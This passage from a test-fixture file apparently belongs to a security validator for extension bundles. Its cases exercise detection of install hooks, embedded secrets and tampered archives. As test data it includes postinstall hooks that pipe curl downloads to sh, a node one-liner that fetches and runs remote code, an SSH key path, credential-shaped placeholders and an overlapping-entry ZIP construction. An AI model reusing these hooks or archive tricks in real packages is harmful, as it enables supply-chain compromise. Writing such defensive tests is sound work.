    ['near miss: the program names only declared hosts, loopback, placeholders, certificate URLs, version and section numbers, /etc/passwd and bare .netrc; a dependency\'s prebuilt binary with a download piped to sh is not read', () =>
      binaryBundle('file-binary-strings', 'valid', { entry_point: 'server/bin/acme-server', command: '${__dirname}/server/bin/acme-server' }, [
        program('server/bin/acme-server', withStrings(ELF_PROGRAM(), ORDINARY_STRINGS)),
        file('server/node_modules/fast-codec/prebuilds/linux-x64/fast-codec.node', withStrings(
          elfHeader({ bits: 64, little: true, type: 3, machine: 62, program: 'library' }),
          ['curl -fsSL https://get.acme-tools.dev/bootstrap.sh | sh', '%s/.ssh/id_ed25519'],
        )),
      ], { homepage: 'https://acme-tools.dev', compatibility: { platforms: ['linux'] } })],
  ),
  ...rule(
    'file-install-script',
    ['lifecycle scripts in the server package and installed dependencies: curl | sh, a chain to fetch-and-run, a tracker, node-gyp, prebuild-install, an uninstall hook, and a package.json that is not JSON', () =>
      ruleBundle('file-install-script', 'invalid', [
        file('server/package.json', packageJson({
          name: 'acme-server',
          version: '1.0.0',
          scripts: { build: 'tsc', prepare: 'npm run build', postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh', preuninstall: 'node scripts/cleanup.js' },
        })),
        file('server/node_modules/native-dep/package.json', packageJson({ name: 'native-dep', version: '2.0.0', scripts: { install: 'node-gyp rebuild' } })),
        file('server/node_modules/prebuilt-dep/package.json', packageJson({ name: 'prebuilt-dep', version: '3.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } })),
        file('server/node_modules/@acme/telemetry/package.json', packageJson({ name: '@acme/telemetry', version: '0.1.0', scripts: { postinstall: 'node track.js' } })),
        file('server/node_modules/sneaky/package.json', packageJson({
          name: 'sneaky',
          version: '0.0.1',
          scripts: { postinstall: 'npm run setup', setup: "node -e \"require('https').get('https://example.invalid/p.js', (r) => r.pipe(process.stdout))\" | node" },
        })),
        file('server/node_modules/broken/package.json', '{\n  // comments are not JSON\n  "name": "broken",\n  "scripts": { "postinstall": "node x.js" },\n}\n'),
      ])],
    ['no lifecycle hooks where npm runs them: build/test/start scripts, a hook-named key outside "scripts", prepare/prepublish in an installed dependency, and a postinstall in a package.json nested inside a package', () =>
      ruleBundle('file-install-script', 'valid', [
        file('server/package.json', packageJson({
          name: 'acme-server',
          version: '1.0.0',
          description: 'Never runs "postinstall": "curl | sh" (this is only a description).',
          config: { postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh' },
          scripts: { build: 'tsc', test: 'node --test', start: 'node dist/index.js' },
        })),
        file('server/node_modules/dep/package.json', packageJson({
          name: 'dep',
          version: '1.0.0',
          scripts: { prepare: 'npm run build', prepublish: 'not-in-publish || npm run prepublishOnly', build: 'tsc', postinstall: ['not', 'a', 'string'] },
        })),
        file('server/node_modules/dep/test/fixtures/app/package.json', packageJson({ name: 'fixture-app', scripts: { postinstall: 'node setup.js' } })),
      ])],
  ),
  ...rule(
    'file-secret',
    // Deflated, so that the credential-shaped strings are not plain text in the repository.
    ['generated credential shapes in first-party code, a PEM and an OpenSSH key, .env and .npmrc values, and a GitHub token in a dependency README', () =>
      ruleBundle('file-secret', 'invalid', [
        file('server/config.js', CONFIG_JS, { method: 8 }),
        file('server/clients.js', CLIENTS_JS, { method: 8 }),
        file('server/keys/deploy.pem', RSA_PEM, { method: 8 }),
        file('server/keys/id_ed25519', OPENSSH_KEY, { method: 8 }),
        file('server/.env', DOTENV, { method: 8 }),
        file('server/.npmrc', NPMRC, { method: 8 }),
        file('server/node_modules/some-dep/README.md', DEPENDENCY_README, { method: 8 }),
      ])],
    ['near misses: the AWS documentation key, an empty .env.example, placeholders, a PEM header without a key, an .npmrc reading its token from the environment, and a binary file', () =>
      ruleBundle('file-secret', 'valid', [
        file('server/docs/aws.md', 'Example from the AWS docs: AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'),
        file('server/.env.example', 'OPENAI_API_KEY=\nGITHUB_TOKEN=\nDB_PASSWORD=your-password-here\nSLACK_BOT_TOKEN=xoxb-your-token\nPORT=3000\n'),
        file('server/placeholders.js', [
          "'use strict';",
          '// Placeholders people paste into docs and defaults.',
          `exports.github = 'ghp_${'x'.repeat(36)}';`,
          `exports.stripe = 'sk_live_${'0'.repeat(24)}';`,
          `exports.aws = 'AKIA${'A'.repeat(16)}';`,
          "exports.openai = 'sk-1234567890abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL';",
          "exports.anthropic = 'sk-ant-your-api-key-goes-here-0123456789abcdef';",
          "exports.slack = 'xoxb-your-slack-bot-token';",
          '',
        ].join('\n')),
        file('server/pem.js', "'use strict';\nexports.isKey = (text) => text.startsWith('-----BEGIN RSA PRIVATE KEY-----') || text.includes('-----BEGIN PRIVATE KEY-----');\n"),
        file('server/.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n'),
        file('server/assets/font.bin', Uint8Array.from([0x00, 0x01, 0x00, 0x00, ...new TextEncoder().encode(` ghp_${fakeChars(900, 'abcdefghijklmnopqrstuvwxyz0123456789', 36)} `)])),
      ])],
  ),
  {
    path: 'fixtures/examples/hello-world.dxt',
    description: 'README quick-start: one say_hello tool, a dependency-free stdio server',
    build: () =>
      buildZip([
        { name: 'manifest.json', data: HELLO_MANIFEST, unixMode: FILE_MODE },
        { name: 'server/index.js', data: HELLO_SERVER, unixMode: FILE_MODE },
      ]),
  },
];

/** `modified` under the signature block made for `original`: what re-zipping a signed bundle with other code gives. */
function spliced(original: Uint8Array, modified: Uint8Array): Uint8Array {
  const signed = signArchive(original, TEST_SIGNERS.publisher);
  return Uint8Array.from([...modified, ...signed.subarray(original.length)]);
}

/** A signed archive whose EOCD declares the block as its comment (the block must follow a comment-less EOCD). */
function declaredAsComment(signed: Uint8Array): Uint8Array {
  const blockAt = Buffer.from(signed).lastIndexOf('MCPB_SIG_V1');
  const copy = Uint8Array.from(signed);
  new DataView(copy.buffer).setUint16(blockAt - 2, signed.length - blockAt, true);
  return copy;
}

/**
 * Rewrites the central-directory record of `alias` so that it points at the local header of
 * `target`: two names, one stream of bytes, the construction behind overlapping-entry ZIP bombs.
 */
function pointSecondAtFirst(zip: Uint8Array, alias: string, target: string): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const eocd = zip.length - 22;
  const count = view.getUint16(eocd + 10, true);
  const offsets = new Map<string, number>();
  let at = view.getUint32(eocd + 16, true);
  for (let index = 0; index < count; index++) {
    const nameLength = view.getUint16(at + 28, true);
    const name = new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength));
    offsets.set(name, at);
    at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  const targetRecord = offsets.get(target)!;
  view.setUint32(offsets.get(alias)! + 42, view.getUint32(targetRecord + 42, true), true);
  return zip;
}
